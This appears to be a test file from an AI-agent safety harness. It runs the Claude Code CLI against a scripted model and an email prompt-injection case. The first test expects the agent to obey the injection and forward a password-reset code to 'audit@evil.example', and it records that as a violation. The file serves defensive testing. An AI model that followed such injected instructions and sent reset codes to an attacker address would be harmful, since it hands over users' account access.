import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLAUDE_CODE_PROGRAM, locateProgram } from '../adapters/agent-programs.js';
import { mcpCliAgent } from '../adapters/mcp-cli-agent.js';
import type { SafetyCase } from '../engine/case-schema.js';
import { runCase } from '../runner/run-case.js';
import { startScriptedModelServer, type StartedModelServer } from '../testing/scripted-model-server.js';
import { agentInstall, loadCase, toolCalls } from './helpers/agent-runs.js';

/** The generic MCP CLI adapter, driving the real Claude Code one-shot (`claude -p … --mcp-config {mcpConfig}`) from a template. */
const install = agentInstall([CLAUDE_CODE_PROGRAM]);

describe.skipIf(install.skip)('mcp-cli adapter (command template) with Claude Code as the CLI', () => {
  let spec: SafetyCase;
  let server: StartedModelServer;
  beforeAll(async () => {
    if (install.missing) throw new Error(install.missing);
    spec = await loadCase('cases/email/forward-reset-code.case.yaml');
    server = await startScriptedModelServer({ policy: 'naive' });
  });
  afterAll(() => server?.close());

  const agent = (command: string) =>
    mcpCliAgent({
      name: 'claude-oneshot',
      command,
      args: [
        '-p',
        '{message}',
        '--output-format',
        'text',
        '--mcp-config',
        '{mcpConfig}',
        '--strict-mcp-config',
        '--allowedTools',
        'mcp__{gatewayName}__list_emails,mcp__{gatewayName}__read_email,mcp__{gatewayName}__forward_email',
      ],
      env: {
        CLAUDE_CONFIG_DIR: '{home}',
        ANTHROPIC_BASE_URL: '{modelBaseURL}',
        ANTHROPIC_API_KEY: 'test',
        CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: '1',
        ENABLE_TOOL_SEARCH: 'false',
      },
      turnTimeoutSeconds: 60,
      // The run's route to it: through the run's plan for the scripted model, and reachable when confined.
      modelBaseURL: server.origin,
    });

  it('multi-channel, naive: the templated CLI reaches the gateway, follows the injection → violated', async () => {
    const { record } = await runCase({ spec, threatModel: 'multi-channel', agent: agent(locateProgram(CLAUDE_CODE_PROGRAM)), recordDir: false });
    expect(record.error).toBeUndefined();
    expect(record.status).toBe('violated');
    expect(record.agent).toBe('mcp-cli:claude-oneshot');
    expect(toolCalls(record).find((c) => c.tool === 'forward_email')).toMatchObject({ origin: 'gateway', args: { to: 'audit@evil.example' } });
    expect(record.responses[0]).toMatch(/^Done\. I called/);
  }, 120_000);

  it('a command that exits non-zero fails the run with its stderr tail', async () => {
    const failing = mcpCliAgent({ name: 'failing', command: 'sh', args: ['-c', 'echo "cannot reach {gatewayName}" >&2; exit 3'] });
    const { record } = await runCase({ spec, threatModel: 'benign', agent: failing, recordDir: false });
    expect(record.status).toBe('error');
    expect(record.error).toMatchObject({ kind: 'AgentError', message: 'failing exited with code 3', detail: 'cannot reach vera' });
  });
});
